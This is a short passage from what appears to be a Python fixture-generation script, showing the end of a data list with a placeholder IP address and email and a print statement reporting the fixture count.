                                                                                  ["ip", "203.0.113.81"], ["email", "admin@example.com"]]}])

print("wrote", COUNT, "fixtures")
